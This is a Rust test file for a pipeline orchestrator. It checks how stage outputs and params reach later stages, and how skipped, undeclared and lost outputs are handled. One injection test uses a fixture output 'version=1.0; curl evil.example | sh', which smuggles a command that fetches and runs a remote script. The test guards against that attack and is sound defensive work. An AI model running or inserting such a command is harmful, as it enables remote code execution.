//! Outputs and params reach later stages as data; skips, bad and lost outputs.

use super::*;

#[test]
fn outputs_and_params_reach_later_stages() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut consumer = stage("packages", &["sdk"]);
    consumer.run = Some(ContainerRun {
        image: Some("$(stages.sdk.outputs.image)".into()),
        args: vec!["--arch=$(params.arch)".into()],
        ..Default::default()
    });
    let mut s = spec(vec![producer, consumer]);
    s.params = vec![Param { name: "arch".into(), value: "amd64".into() }];
    let mut sim = Sim::new(s);
    sim.step();
    let sdk = &sim.launches()[0];
    assert_eq!(env_of(sdk, "GANTRY_PARAM_ARCH").as_deref(), Some("amd64"));
    assert_eq!(env_of(sdk, "GANTRY_OUTPUTS").as_deref(), Some("/dev/termination-log"));
    assert_eq!(env_of(sdk, "GANTRY_STAGE").as_deref(), Some("sdk"));
    sim.finish("sdk", JobState::Succeeded, "image=registry/sdk:3145\n");
    sim.step();
    assert_eq!(sim.stage("sdk").outputs.get("image").map(String::as_str), Some("registry/sdk:3145"));
    let packages = &sim.launches()[0];
    assert_eq!(packages.image, "registry/sdk:3145");
    assert_eq!(packages.args, ["--arch=amd64"]);
    assert_eq!(env_of(packages, "GANTRY_OUTPUT_SDK_IMAGE").as_deref(), Some("registry/sdk:3145"));
}

#[test]
fn an_undeclared_output_fails_the_stage_with_a_message_naming_it() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut sim = Sim::new(spec(vec![producer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "imgae=x\n");
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Failed);
    assert!(sim.stage("sdk").message.as_deref().unwrap().contains("imgae"), "{:?}", sim.stage("sdk").message);
}

#[test]
fn a_missing_output_fails_the_consumer_without_creating_its_job() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["image".into()];
    let mut consumer = stage("packages", &["sdk"]);
    consumer.run.as_mut().unwrap().image = Some("$(stages.sdk.outputs.image)".into());
    let mut sim = Sim::new(spec(vec![producer, consumer]));
    sim.step();
    sim.succeed("sdk"); // wrote nothing
    sim.step();
    assert_eq!(sim.phase("packages"), StagePhase::Failed);
    assert!(sim.stage("packages").message.as_deref().unwrap().contains("$(stages.sdk.outputs.image) has no value"));
    assert_eq!(sim.created_jobs, [job("sdk", 1)]);
    assert_eq!(sim.status.phase, Some(RunPhase::Failed));
}

#[test]
fn a_stage_reporting_skip_skips_its_dependents_but_the_run_succeeds() {
    let mut check = stage("changes", &[]);
    check.outputs = vec!["version".into()];
    let mut sim =
        Sim::new(spec(vec![check, stage("build", &["changes"]), stage("publish", &["build"]), stage("lint", &[])]));
    sim.step();
    sim.finish("changes", JobState::Succeeded, "skip=true\n");
    sim.succeed("lint");
    sim.step();
    assert_eq!(sim.phase("changes"), StagePhase::Skipped);
    assert_eq!(sim.stage("changes").skip_reason, Some(SkipReason::Requested));
    assert_eq!(sim.phase("build"), StagePhase::Skipped);
    assert_eq!(sim.phase("publish"), StagePhase::Skipped);
    assert_eq!(sim.stage("publish").skip_reason, Some(SkipReason::Upstream));
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
    assert_eq!(sim.created_jobs, [job("changes", 1), job("lint", 1)]);
}

#[test]
fn listed_skips_count_as_success_and_dependents_still_run() {
    let mut s = spec(vec![stage("a", &[]), stage("vms", &["a"]), stage("after", &["vms"])]);
    s.skip = vec!["vms".into()];
    let mut sim = Sim::new(s);
    sim.step();
    sim.succeed("a");
    sim.step();
    assert_eq!(sim.phase("vms"), StagePhase::Skipped);
    assert_eq!(sim.running(), ["after"]);
    sim.succeed("after");
    sim.step();
    assert_eq!(sim.status.phase, Some(RunPhase::Succeeded));
}

#[test]
fn an_output_with_shell_characters_is_not_substituted_into_a_command() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["version".into()];
    let mut consumer = stage("test", &["sdk"]);
    consumer.run.as_mut().unwrap().command =
        vec!["sh".into(), "-c".into(), "run-tests $(stages.sdk.outputs.version)".into()];
    let mut sim = Sim::new(spec(vec![producer.clone(), consumer.clone()]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=1.0; curl evil.example | sh\n");
    sim.step();
    assert_eq!(sim.phase("test"), StagePhase::Failed);
    assert!(sim.launches().is_empty(), "no Job for the consumer");
    let message = sim.stage("test").message.clone().unwrap_or_default();
    assert!(message.contains("$(stages.sdk.outputs.version) in run.command[2]"), "{message}");
    assert!(message.contains("$GANTRY_OUTPUT_SDK_VERSION"), "{message}");

    // Opting in substitutes the value as it is; plain values never need it.
    consumer.allow_unsafe_outputs = true;
    let mut sim = Sim::new(spec(vec![producer.clone(), consumer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=1.0; echo hi\n");
    sim.step();
    assert_eq!(sim.launches()[0].command[2], "run-tests 1.0; echo hi");
    let mut plain = stage("test", &["sdk"]);
    plain.run.as_mut().unwrap().args = vec!["$(stages.sdk.outputs.version)".into()];
    let mut sim = Sim::new(spec(vec![producer, plain]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=3145.0.0\n");
    sim.step();
    assert_eq!(sim.launches()[0].args, ["3145.0.0"]);
}

#[test]
fn outputs_in_env_values_are_data_and_need_no_opt_in() {
    let mut producer = stage("sdk", &[]);
    producer.outputs = vec!["version".into()];
    let mut consumer = stage("test", &["sdk"]);
    consumer.run.as_mut().unwrap().env = vec![k8s_openapi::api::core::v1::EnvVar {
        name: "V".into(),
        value: Some("$(stages.sdk.outputs.version)".into()),
        value_from: None,
    }];
    let mut sim = Sim::new(spec(vec![producer, consumer]));
    sim.step();
    sim.finish("sdk", JobState::Succeeded, "version=a b;c\n");
    sim.step();
    assert_eq!(env_of(&sim.launches()[0], "V").as_deref(), Some("a b;c"));
}

#[test]
fn a_success_whose_outputs_are_lost_is_a_failed_attempt_and_retried() {
    let mut sdk = stage("sdk", &[]);
    sdk.outputs = vec!["version".into()];
    sdk.retries = Some(1);
    let mut sim = Sim::new(spec(vec![sdk, stage("test", &["sdk"])]));
    sim.step();
    sim.succeed("sdk");
    sim.observed.jobs[0].outcome.outputs_lost = true;
    sim.step();
    assert_eq!(sim.phase("sdk"), StagePhase::Waiting, "retried");
    let history = &sim.stage("sdk").history;
    assert!(
        history[0].message.as_deref().unwrap_or_default().contains("its pod is gone with the outputs"),
        "{history:?}"
    );
    // A stage that declares no outputs has nothing to lose.
    let mut sim = Sim::new(spec(vec![stage("a", &[])]));
    sim.step();
    sim.succeed("a");
    sim.observed.jobs[0].outcome.outputs_lost = true;
    sim.step();
    assert_eq!(sim.phase("a"), StagePhase::Succeeded);
}
